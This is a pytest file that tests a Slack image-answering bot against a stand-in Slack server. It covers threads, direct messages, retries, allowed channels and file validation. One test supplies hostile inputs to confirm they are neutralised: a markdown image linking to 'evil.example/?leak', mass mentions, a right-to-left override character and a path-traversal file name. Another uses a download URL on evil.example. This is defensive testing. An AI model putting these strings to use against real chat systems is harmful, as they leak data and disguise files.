"""Conversations in Slack: slack-bolt and slack-sdk themselves against the stand-in, over Socket Mode."""

import asyncio
from typing import Any

import pytest
from scripted_chat_model import ScriptedChatModel
from slack_running import ASK, Answering, pictures, question
from slack_stand_in import ANN, BOB, BOT, DM, SlackStandIn

from visavis.dialogue.errors import StoreUnavailable


async def test_a_mention_with_a_picture_is_answered_in_its_thread(
    slack: SlackStandIn, answering: Answering, photo: bytes
) -> None:
    model = ScriptedChatModel(looks=True)
    async with answering(model):
        asked = slack.say(ASK, files=[slack.add_file(photo)])
        delivery = await slack.tell(slack.event(asked))
        (answer,) = await slack.answered(asked.ts)
    assert answer.shown.strip() == "a red square on white \n[Show why]".strip()
    assert delivery.attempts == 1
    assert pictures(model) == 1
    assert "what is this?" in question(model)
    assert BOT not in question(model)
    assert slack.called("assistant.threads.setStatus")[0]["thread_ts"] == asked.ts


async def test_a_thread_is_a_conversation_and_its_follow_ups_need_no_mention(
    slack: SlackStandIn, answering: Answering
) -> None:
    model = ScriptedChatModel()
    async with answering(model):
        asked = slack.say(ASK)
        await slack.tell(slack.event(asked))
        await slack.answered(asked.ts)
        again = slack.say("and its color?", user=BOB, thread=asked.ts)
        await slack.tell(slack.event(again))
        await slack.answered(asked.ts, count=2)
        other = slack.say(ASK)
        await slack.tell(slack.event(other))
        await slack.answered(other.ts)
    assert [len(one) for one in model.asked] == [1, 3, 1]


@pytest.mark.parametrize(
    "change",
    [
        {"bot_id": "B0OTHER"},
        {"user": BOT},
        {"subtype": "message_changed"},
        {"subtype": "channel_join"},
        {"text": "hello everybody"},
        {"text": f"<@{BOB}> look", "thread_ts": "1.2"},
        {"text": "in a thread without us", "thread_ts": "1.2"},
    ],
)
async def test_what_is_not_meant_for_it_is_acknowledged_and_left_alone(
    slack: SlackStandIn, answering: Answering, change: dict[str, Any]
) -> None:
    model = ScriptedChatModel()
    async with answering(model):
        event = slack.event(slack.say(change.get("text", ASK)), type="message") | change
        delivery = await slack.tell(event)
        assert delivery.acked.is_set()
        asked = slack.say(ASK)
        await slack.tell(slack.event(asked))
        await slack.answered(asked.ts)
    assert len(model.asked) == 1
    assert len(slack.of_bot()) == 1


async def test_pictures_that_were_posted_in_the_thread_before_are_looked_at(
    slack: SlackStandIn, answering: Answering, photo: bytes
) -> None:
    model = ScriptedChatModel()
    async with answering(model):
        root = slack.say("look at this", files=[slack.add_file(photo)])
        for number in range(5):
            slack.say(f"nice {number}", user=BOB, thread=root.ts)
        asked = slack.say(ASK, user=BOB, thread=root.ts)
        await slack.tell(slack.event(asked))
        await slack.answered(root.ts)
        assert pictures(model) == 1
        again = slack.say(f"<@{BOT}> and now?", thread=root.ts)
        await slack.tell(slack.event(again))
        await slack.answered(root.ts, count=2)
    assert len(slack.file_tokens) == 1


async def test_a_thread_that_cannot_be_read_is_no_reason_not_to_answer(
    slack: SlackStandIn, answering: Answering
) -> None:
    slack.scopes -= {"channels:history", "groups:history", "im:history"}
    async with answering():
        root = slack.say("look")
        asked = slack.say(ASK, thread=root.ts)
        await slack.tell(slack.event(asked))
        (answer,) = await slack.answered(root.ts)
    assert "red square" in answer.shown


async def test_events_are_acknowledged_before_any_work_however_slow_the_model_is(
    slack: SlackStandIn, answering: Answering, photo: bytes
) -> None:
    slack.retry_s = 3.0
    async with asyncio.timeout(100), answering(ScriptedChatModel(pause_s=3600), drain_s=0):
        events = [slack.say(ASK, files=[slack.add_file(photo)]) for _ in range(20)]
        told = await asyncio.gather(*(slack.tell(slack.event(one)) for one in events))
    assert [one.attempts for one in told] == [1] * 20


async def test_retries_and_the_two_events_of_a_mention_are_answered_once(
    slack: SlackStandIn, answering: Answering
) -> None:
    model = ScriptedChatModel()
    async with answering(model), answering(model):
        asked = slack.say(ASK)
        event = slack.event(asked)
        for _ in range(4):
            assert (await slack.tell(event, "Ev1")).acked.is_set()
        await slack.tell(slack.event(asked, type="message"), "Ev2")
        await slack.answered(asked.ts)
        other = slack.say(ASK)
        await slack.tell(slack.event(other), "Ev3")
        await slack.answered(other.ts)
    assert len(model.asked) == 2
    assert len(slack.of_bot()) == 2


async def test_an_event_that_could_not_be_kept_is_brought_again_and_answered(
    slack: SlackStandIn, answering: Answering, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with answering() as service:
        channel: Any = service.adapter._channel
        take, failures = channel.take, [ConnectionError("away")]

        async def failing(*args: Any) -> bool:
            if failures:
                raise StoreUnavailable("away") from failures.pop()
            return bool(await take(*args))

        monkeypatch.setattr(channel, "take", failing)
        asked = slack.say(ASK)
        delivery = await slack.tell(slack.event(asked))
        assert delivery.attempts == 2
        await slack.answered(asked.ts)


async def test_a_direct_message_needs_no_mention_and_each_thread_is_a_conversation(
    slack: SlackStandIn, answering: Answering, photo: bytes
) -> None:
    model = ScriptedChatModel()
    async with answering(model):
        asked = slack.say("", channel=DM, files=[slack.add_file(photo)])
        await slack.tell(slack.event(asked))
        await slack.answered(asked.ts, DM)
        again = slack.say("what color?", channel=DM, thread=asked.ts)
        await slack.tell(slack.event(again))
        await slack.answered(asked.ts, DM, count=2)
    assert [len(one) for one in model.asked] == [1, 3]
    assert not slack.called("conversations.replies")
    suggested = slack.called("assistant.threads.setSuggestedPrompts")[0]
    assert 0 < len(suggested["prompts"]) <= 4
    assert "thread_ts" not in suggested


async def test_only_allowed_channels_are_answered(slack: SlackStandIn, answering: Answering) -> None:
    async with answering(slack_channels=("C0SECRET",)):
        asked = slack.say(ASK)
        for _ in range(2):
            await slack.tell(slack.event(asked), "Ev1")
        await slack.until(lambda: slack.whispers)
        allowed = slack.say(ASK, channel="C0SECRET")
        await slack.tell(slack.event(allowed))
        await slack.answered(allowed.ts, "C0SECRET")
        private = slack.say("hello", channel=DM)
        await slack.tell(slack.event(private))
        await slack.answered(private.ts, DM)
    assert [one["text"] for one in slack.whispers] == ["I am not enabled in this channel."]
    assert not slack.of_bot(asked.ts)


async def test_hostile_text_and_file_names_do_nothing(slack: SlackStandIn, answering: Answering, photo: bytes) -> None:
    hostile = "<!channel> <@U0ANN> @everyone &lt;!here&gt; ![x](http://evil.example/?leak) ``` \u202e"
    model = ScriptedChatModel(answer=hostile)
    async with answering(model):
        file = slack.add_file(photo, name="../../etc/<!channel>\u202egnp.exe\n")
        asked = slack.say(f"{ASK} <!channel> &lt;@U1&gt; <https://evil.example|click> {'x' * 3000}", files=[file])
        await slack.tell(slack.event(asked))
        (answer,) = await slack.answered(asked.ts)
    sent = str([arguments for method, arguments in slack.calls if method.startswith("chat.")])
    for active in ("<!channel", "<@U0ANN", "@everyone", "![", "\u202e"):
        assert active not in answer.shown + sent
    assert "<@U1>" in question(model)
    assert "click" in question(model)
    assert not any(one.get("unfurl_links") for one in slack.called("chat.postMessage"))


@pytest.mark.parametrize(
    ("more", "said"),
    [
        ({"mimetype": "application/pdf"}, "application/pdf files are not read"),
        ({"mimetype": "text/html"}, "text/html files are not read"),
        ({"size": 10**9}, "at most 20 MiB"),
        ({"redirects": True}, "redirects|status 302|did not give"),
        ({"url_private_download": "http://evil.example/photo.png"}, "not the platform's"),
    ],
)
async def test_a_bad_file_is_told_to_the_person_alone(
    slack: SlackStandIn, answering: Answering, photo: bytes, more: dict[str, Any], said: str
) -> None:
    async with answering():
        asked = slack.say(ASK, files=[slack.add_file(photo, **more)])
        await slack.tell(slack.event(asked))
        await slack.until(lambda: slack.whispers)
    assert any(part in slack.whispers[0]["text"] for part in said.split("|"))
    assert slack.whispers[0]["user"] == ANN
    assert [one["status"] for one in slack.called("assistant.threads.setStatus")][-1:] in ([], [""])
    assert slack.redirected == []


async def test_a_sign_in_page_in_the_place_of_a_picture_is_called_a_missing_permission(
    slack: SlackStandIn, answering: Answering, photo: bytes
) -> None:
    slack.scopes.discard("files:read")
    async with answering():
        for number, file in enumerate([slack.add_file(photo), {"id": "F00000", "file_access": "check_file_info"}], 1):
            asked = slack.say(ASK, files=[file])
            await slack.tell(slack.event(asked))
            await slack.until(lambda number=number: len(slack.whispers) == number)  # type: ignore[misc]
    assert all("files:read" in one["text"] for one in slack.whispers)


async def test_a_file_of_which_only_the_id_is_told_is_looked_up(
    slack: SlackStandIn, answering: Answering, photo: bytes
) -> None:
    model = ScriptedChatModel()
    async with answering(model):
        slack.add_file(photo)
        asked = slack.say(ASK, files=[{"id": "F00000", "file_access": "check_file_info"}])
        await slack.tell(slack.event(asked))
        await slack.answered(asked.ts)
    assert pictures(model) == 1
